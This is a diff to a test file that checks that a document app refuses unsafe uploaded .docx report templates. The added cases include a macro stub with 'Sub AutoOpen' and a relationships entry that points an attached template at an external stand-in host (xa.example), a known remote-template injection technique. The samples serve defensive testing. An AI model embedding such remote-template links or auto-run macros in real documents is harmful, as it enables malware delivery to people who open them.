@@ -1,7 +1,7 @@
 /** Official documents over HTTP: every answer in them, for those who see it on the screen, under the unit's letterhead. */
 import { type Block, readDocument } from "@opendti/documents";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { formOf } from "../files/form.js";
+import { docx, formOf } from "../files/form.js";
 import { ask, type Person, type RunningApp, startApp } from "../running/app.js";
 import { type Appraising, acting, appraising, judge, openQuestion } from "../running/appraising.js";
 import { realUnit } from "../running/campaign.js";
@@ -162,6 +162,9 @@ describe("documents of appraising", () => {
   });
 });
 
+/** A template that asks another machine for a part of itself. */
+const CALLING_HOME = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://xa.example/mau.dotm" TargetMode="External"/></Relationships>`;
+
 describe("a template of the province", () => {
   const send = (person: Person, name: string, bytes: Buffer) => {
     const form = formOf(name, bytes);
@@ -188,7 +191,9 @@ describe("a template of the province", () => {
   it.each([
     ["van-ban.txt", Buffer.from("không phải gói nén")],
     ["hong.docx", Buffer.from("PK\u0003\u0004 hỏng")],
-    ["so-tinh.docx", Buffer.alloc(0)],
+    ["rong.docx", Buffer.alloc(0)],
+    ["macro.docx", docx({ name: "word/vbaProject.bin", content: "Sub AutoOpen" })],
+    ["goi-ve.docx", docx({ name: "word/_rels/document.xml.rels", content: CALLING_HOME })],
   ])("%s is refused with the reason, and nothing is kept", async (name, bytes) => {
     const before = (await here.coordinator.get("/report-templates")).body.items.length;
     const sent = await send(here.coordinator, name, bytes);
